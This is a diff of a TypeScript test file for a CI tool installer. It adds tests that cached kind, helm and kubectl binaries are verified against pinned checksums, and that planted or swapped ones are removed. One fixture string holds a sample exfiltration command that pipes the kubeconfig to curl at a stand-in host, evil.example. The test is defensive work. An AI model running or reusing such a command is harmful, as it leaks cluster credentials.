@@ -18,11 +18,12 @@ import {
 import { tmpdir } from 'node:os';
 import { delimiter, join } from 'node:path';
 import { pathToFileURL } from 'node:url';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
 import {
   assetFor,
   installTools,
   type Pins,
+  parseTrustedTools,
   platformKey,
   type ToolName,
   toolchainPins,
@@ -167,9 +168,12 @@ describe('assetFor with the shipped pins', () => {
 
 const KIND_VERSION = 'v0.30.0';
 const HELM_VERSION = 'v3.19.0';
+const KUBECTL_VERSION = 'v1.34.4';
 let server: DownloadServer;
 let build: string;
 let kindBinary: Buffer;
+let kubectlBinary: Buffer;
+let helmBinary: Buffer;
 let helmTarGz: Buffer;
 let savedPath: string | undefined;
 let cache: string;
@@ -184,9 +188,11 @@ beforeAll(async () => {
   server = await DownloadServer.start();
   build = mkdtempSync(join(tmpdir(), 'jetscale-assets-'));
   kindBinary = script(`kind ${KIND_VERSION} from the loopback server`);
+  kubectlBinary = script(`kubectl ${KUBECTL_VERSION} from the loopback server`);
+  helmBinary = script(`helm ${HELM_VERSION} from the loopback server`);
   const helmDir = join(build, 'helm', 'linux-amd64');
   mkdirSync(helmDir, { recursive: true });
-  writeFileSync(join(helmDir, 'helm'), script(`helm ${HELM_VERSION} from the loopback server`));
+  writeFileSync(join(helmDir, 'helm'), helmBinary);
   chmodSync(join(helmDir, 'helm'), 0o755);
   writeFileSync(join(build, 'helm', 'linux-amd64', 'README.md'), 'not the binary\n');
   execFileSync('tar', ['-czf', join(build, 'helm.tar.gz'), '-C', join(build, 'helm'), 'linux-amd64']);
@@ -207,10 +213,12 @@ beforeEach(() => {
   process.env.RUNNER_TOOL_CACHE = cache;
   process.env.RUNNER_TEMP = temp;
   savedPath = process.env.PATH;
+  delete process.env.JETSCALE_TRUSTED_TOOL_SHA256;
 });
 
 afterEach(() => {
   process.env.PATH = savedPath;
+  delete process.env.JETSCALE_TRUSTED_TOOL_SHA256;
   rmSync(root, { recursive: true, force: true });
 });
 
@@ -219,6 +227,7 @@ function testPins(extra: Partial<Record<ToolName, { version: string; asset: Buff
   const entries = {
     kind: { version: KIND_VERSION, asset: kindBinary },
     helm: { version: HELM_VERSION, asset: helmTarGz },
+    kubectl: { version: KUBECTL_VERSION, asset: kubectlBinary },
     ...extra,
   };
   const tools = { ...base.tools };
@@ -228,9 +237,15 @@ function testPins(extra: Partial<Record<ToolName, { version: string; asset: Buff
   return { tools };
 }
 
-const baseUrls = () => ({ kind: `${server.url}/kind`, helm: `${server.url}/helm` });
+const baseUrls = () => ({
+  kind: `${server.url}/kind`,
+  helm: `${server.url}/helm`,
+  kubectl: `${server.url}/kubectl`,
+});
 const kindPath = (v = KIND_VERSION) => `/kind/${v}/kind-linux-amd64`;
-const helmPath = `/helm/helm-${HELM_VERSION}-linux-amd64.tar.gz`;
+const helmArchive = `helm-${HELM_VERSION}-linux-amd64.tar.gz`;
+const helmPath = `/helm/${helmArchive}`;
+const kubectlPath = `/kubectl/${KUBECTL_VERSION}/bin/linux/amd64/kubectl`;
 const opts = (extra: Parameters<typeof installTools>[1] = {}) => ({
   platform: 'linux' as const,
   arch: 'x64',
@@ -239,6 +254,32 @@ const opts = (extra: Parameters<typeof installTools>[1] = {}) => ({
   retry: FAST_RETRY,
   ...extra,
 });
+
+/** Writes a tool-cache entry (binary, and `extra` files next to it, plus the .complete marker) as a job could. */
+function plant(tool: string, version: string, binary: Buffer, extra: Record<string, Buffer> = {}): string {
+  const dir = join(cache, tool, version.replace(/^v/, ''), 'x64');
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, tool), binary);
+  chmodSync(join(dir, tool), 0o755);
+  for (const [name, data] of Object.entries(extra)) writeFileSync(join(dir, name), data);
+  writeFileSync(`${dir}.complete`, '');
+  return dir;
+}
+
+/** What the code writes to stdout while `fn` runs (workflow commands such as ::warning:: go there). */
+async function captureStdout<T>(fn: () => Promise<T>): Promise<{ result: T | Error; out: string }> {
+  let out = '';
+  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
+    out += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString();
+    return true;
+  });
+  try {
+    const result = await fn().catch((e: Error) => e);
+    return { result, out };
+  } finally {
+    spy.mockRestore();
+  }
+}
 
 function expectNothingCached(tool: string, version: string): void {
   expect(existsSync(join(cache, tool, version.replace(/^v/, '')))).toBe(false);
@@ -267,8 +308,9 @@ describe.skipIf(!linuxX64)(
       });
       expect(existsSync(join(cache, 'kind', '0.30.0', 'x64.complete'))).toBe(true);
       expect(existsSync(join(cache, 'helm', '3.19.0', 'x64.complete'))).toBe(true);
-      // Only the binary is cached, not the rest of the archive.
-      expect(readdirSync(dirs.helm)).toEqual(['helm']);
+      // The binary and the verified archive (what a later hit is checked against), not the rest of the archive.
+      expect(readdirSync(dirs.helm).sort()).toEqual(['helm', helmArchive]);
+      expect(readFileSync(join(dirs.helm, helmArchive))).toEqual(helmTarGz);
       const path = process.env.PATH ?? '';
       expect(path.split(delimiter).slice(0, 2).sort()).toEqual([dirs.helm, dirs.kind].sort());
       // Found through PATH, and they run.
@@ -283,21 +325,17 @@ describe.skipIf(!linuxX64)(
       expect(readdirSync(temp).filter((e) => e.startsWith('jetscale-'))).toEqual([]);
     });
 
-    test('a cache hit downloads nothing', async () => {
-      // Laid out the way the rig (or an earlier run) leaves it.
-      const dir = join(cache, 'kind', '0.30.0', 'x64');
-      mkdirSync(dir, { recursive: true });
-      writeFileSync(join(dir, 'kind'), script('kind from the cache'));
-      chmodSync(join(dir, 'kind'), 0o755);
-      writeFileSync(`${dir}.complete`, '');
-      server.serve(kindPath(), kindBinary);
+    test('a cache hit whose binary matches the pin downloads nothing', async () => {
+      // Laid out the way an earlier run leaves it.
+      const dir = plant('kind', KIND_VERSION, kindBinary);
+      server.serve(kindPath(), script('kind from the server'));
 
       const dirs = await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
       expect(dirs.kind).toBe(dir);
       expect(server.requestCount()).toBe(0);
       expect((process.env.PATH ?? '').split(delimiter)[0]).toBe(dir);
       expect(execFileSync('kind', { encoding: 'utf8', env: { PATH: process.env.PATH } })).toBe(
-        'kind from the cache\n',
+        `kind ${KIND_VERSION} from the loopback server\n`,
       );
     });
 
@@ -531,10 +569,200 @@ describe.skipIf(!linuxX64)(
           [{ name: 'helm', version: HELM_VERSION }],
           opts({ platform: 'win32', pins: pinsWin }),
         );
-        expect(readdirSync(dirs.helm)).toEqual(['helm.exe']);
+        expect(readdirSync(dirs.helm).sort()).toEqual([`helm-${HELM_VERSION}-windows-amd64.zip`, 'helm.exe']);
         expect(readFileSync(join(dirs.helm, 'helm.exe'))).toEqual(readFileSync(join(dir, 'helm.exe')));
         expect(server.requestCount(path)).toBe(1);
       },
     );
   },
 );
+
+// ---------------------------------------------------------------------------------------------------------
+// Issue 9: "a tool-cache hit is used without checking its checksum (on a self-hosted runner a fork's job can
+// plant a `kubectl` that a later preview job runs with the kubeconfig)". Each hit is verified before use.
+// ---------------------------------------------------------------------------------------------------------
+
+describe.skipIf(!linuxX64)('finding: a tool-cache hit is used without checking its checksum', () => {
+  const planted = script('kubectl planted by an earlier job: cat "$KUBECONFIG" | curl -d @- evil.example');
+  const kubectlDir = () => join(cache, 'kubectl', '1.34.4', 'x64');
+
+  test('a planted kubectl (its sha256 is not the pin) is removed, downloaded again and verified', async () => {
+    const dir = plant('kubectl', KUBECTL_VERSION, planted);
+    server.serve(kubectlPath, kubectlBinary);
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
+    );
+    expect(result).toEqual({ kubectl: dir });
+    expect(server.requestCount(kubectlPath)).toBe(1);
+    expect(readFileSync(join(dir, 'kubectl'))).toEqual(kubectlBinary);
+    expect(execFileSync(join(dir, 'kubectl'), { encoding: 'utf8' })).toBe(
+      `kubectl ${KUBECTL_VERSION} from the loopback server\n`,
+    );
+    // One warning naming the tool, the path, the expected and the actual checksum.
+    expect(out).toContain(
+      `::warning::kubectl ${KUBECTL_VERSION}: the cached ${join(dir, 'kubectl')} failed verification ` +
+        `(expected sha256 ${sha256(kubectlBinary)} (the pin), got ${sha256(planted)}); ` +
+        'removing it and downloading kubectl again',
+    );
+  });
+
+  test('a planted kubectl and no download: fails naming the tool, the path, both checksums; the plant is gone', async () => {
+    const dir = plant('kubectl', KUBECTL_VERSION, planted);
+    const error = await installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()).catch(
+      (e: Error) => e,
+    );
+    expect((error as Error).message).toBe(
+      `kubectl ${KUBECTL_VERSION} not found at ${server.url}${kubectlPath} (HTTP 404) (before that, the cached ` +
+        `${join(dir, 'kubectl')} failed verification (expected sha256 ${sha256(kubectlBinary)} (the pin), ` +
+        `got ${sha256(planted)}); it was removed)`,
+    );
+    expect(existsSync(kubectlDir())).toBe(false);
+    expect(existsSync(`${kubectlDir()}.complete`)).toBe(false);
+  });
+
+  test('a genuine cached kubectl with another program planted next to it is rejected: the whole directory goes on PATH', async () => {
+    const dir = plant('kubectl', KUBECTL_VERSION, kubectlBinary, { bash: planted, helm: planted });
+    server.serve(kubectlPath, kubectlBinary);
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
+    );
+    expect(result).toEqual({ kubectl: dir });
+    expect(readdirSync(dir)).toEqual(['kubectl']);
+    expect(server.requestCount(kubectlPath)).toBe(1);
+    expect(out).toContain('its directory holds other files (bash, helm), each of which would be on PATH');
+  });
+
+  test('the install step never runs the planted binary, even when it sits first on PATH', async () => {
+    // The plant records whether it ever ran; nothing but the verified download may end up on PATH.
+    const marker = join(root, 'plant-ran');
+    plant('kubectl', KUBECTL_VERSION, Buffer.from(`#!/bin/sh\ntouch ${marker}\n`));
+    server.serve(kubectlPath, kubectlBinary);
+    await captureStdout(() => installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()));
+    const path = process.env.PATH ?? '';
+    expect(execFileSync('kubectl', { encoding: 'utf8', env: { PATH: path } })).toBe(
+      `kubectl ${KUBECTL_VERSION} from the loopback server\n`,
+    );
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  test('a cached helm is verified through the archive kept next to it: a hit downloads nothing', async () => {
+    server.serve(helmPath, helmTarGz);
+    const first = await installTools([{ name: 'helm', version: HELM_VERSION }], opts());
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
+    );
+    expect(result).toEqual(first);
+    expect(server.requestCount(helmPath)).toBe(1);
+    expect(out).toContain(
+      `helm ${HELM_VERSION}: found in the tool cache at ${first.helm}; sha256 ${sha256(helmBinary)} is the ` +
+        'binary of the cached archive, whose sha256 matches the pin',
+    );
+    expect(out).not.toContain('::warning::');
+    // The archive was extracted into a private directory for the check, which is gone.
+    expect(readdirSync(temp).filter((e) => e.startsWith('jetscale-'))).toEqual([]);
+  });
+
+  test('a cached helm binary swapped for another is rejected (the archive holds a different one) and replaced', async () => {
+    const dir = plant('helm', HELM_VERSION, planted, { [helmArchive]: helmTarGz });
+    server.serve(helmPath, helmTarGz);
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
+    );
+    expect(result).toEqual({ helm: dir });
+    expect(out).toContain(
+      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (expected sha256 ` +
+        `${sha256(helmBinary)} (the binary in the archive that matches the pin), got ${sha256(planted)})`,
+    );
+    expect(server.requestCount(helmPath)).toBe(1);
+    expect(readFileSync(join(dir, 'helm'))).toEqual(helmBinary);
+  });
+
+  test('a cached helm with a forged archive (binary and archive both replaced) is rejected and replaced', async () => {
+    const forged = join(build, 'forged');
+    mkdirSync(join(forged, 'linux-amd64'), { recursive: true });
+    writeFileSync(join(forged, 'linux-amd64', 'helm'), planted);
+    execFileSync('tar', ['-czf', join(build, 'forged.tar.gz'), '-C', forged, 'linux-amd64']);
+    const forgedTarGz = readFileSync(join(build, 'forged.tar.gz'));
+    const dir = plant('helm', HELM_VERSION, planted, { [helmArchive]: forgedTarGz });
+    server.serve(helmPath, helmTarGz);
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
+    );
+    expect(result).toEqual({ helm: dir });
+    expect(out).toContain(
+      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (its archive ` +
+        `${join(dir, helmArchive)}: expected sha256 ${sha256(helmTarGz)} (the pin), got ${sha256(forgedTarGz)})`,
+    );
+    expect(readFileSync(join(dir, 'helm'))).toEqual(helmBinary);
+    expect(readFileSync(join(dir, helmArchive))).toEqual(helmTarGz);
+  });
+
+  test('a cached helm without its archive (the older cache layout) cannot be verified and is replaced', async () => {
+    const dir = plant('helm', HELM_VERSION, helmBinary);
+    server.serve(helmPath, helmTarGz);
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
+    );
+    expect(result).toEqual({ helm: dir });
+    expect(out).toContain(
+      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (no verified ` +
+        `archive ${helmArchive} next to it to check it against: expected the binary of the archive with sha256 ` +
+        `${sha256(helmTarGz)}, got a binary with sha256 ${sha256(helmBinary)})`,
+    );
+    expect(server.requestCount(helmPath)).toBe(1);
+    expect(readdirSync(dir).sort()).toEqual(['helm', helmArchive]);
+  });
+
+  test('a binary listed for its tool in JETSCALE_TRUSTED_TOOL_SHA256 is used (an operator-built tool)', async () => {
+    const own = script('kubectl built by the operator');
+    const dir = plant('kubectl', KUBECTL_VERSION, own);
+    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = `helm=${'0'.repeat(64)}, kubectl=${sha256(own)}`;
+    const { result, out } = await captureStdout(() =>
+      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
+    );
+    expect(result).toEqual({ kubectl: dir });
+    expect(server.requestCount()).toBe(0);
+    expect(out).toContain(`sha256 ${sha256(own)} is listed in JETSCALE_TRUSTED_TOOL_SHA256`);
+  });
+
+  test('a checksum listed for another tool does not vouch for this one', async () => {
+    const dir = plant('kubectl', KUBECTL_VERSION, planted);
+    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = `kind=${sha256(planted)}`;
+    server.serve(kubectlPath, kubectlBinary);
+    await captureStdout(() => installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()));
+    expect(readFileSync(join(dir, 'kubectl'))).toEqual(kubectlBinary);
+    expect(server.requestCount(kubectlPath)).toBe(1);
+  });
+
+  test('a malformed JETSCALE_TRUSTED_TOOL_SHA256 fails before anything is installed', async () => {
+    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = 'kubectl=abc';
+    server.serve(kubectlPath, kubectlBinary);
+    await expect(installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts())).rejects.toThrow(
+      "JETSCALE_TRUSTED_TOOL_SHA256: 'kubectl=abc' is not a tool=sha256 entry (tools: kind, helm, skaffold, " +
+        'kubectl; sha256: 64 lower-case hex digits)',
+    );
+    expect(server.requestCount()).toBe(0);
+    expectNothingCached('kubectl', KUBECTL_VERSION);
+  });
+});
+
+describe('parseTrustedTools', () => {
+  const a = 'a'.repeat(64);
+  const b = 'b'.repeat(64);
+  test.each([
+    [undefined, {}],
+    ['', {}],
+    [`kubectl=${a}`, { kubectl: [a] }],
+    [` kubectl=${a},helm=${b}\nkubectl=${b} `, { kubectl: [a, b], helm: [b] }],
+  ])('%j → %j', (text, expected) => {
+    expect(parseTrustedTools(text)).toEqual(expected);
+  });
+  test.each([`tilt=${a}`, `kubectl=${a.toUpperCase()}`, `kubectl:${a}`, 'kubectl'])(
+    '%s is refused',
+    (text) => {
+      expect(() => parseTrustedTools(text)).toThrow(
+        `JETSCALE_TRUSTED_TOOL_SHA256: '${text}' is not a tool=sha256`,
+      );
+    },
+  );
+});
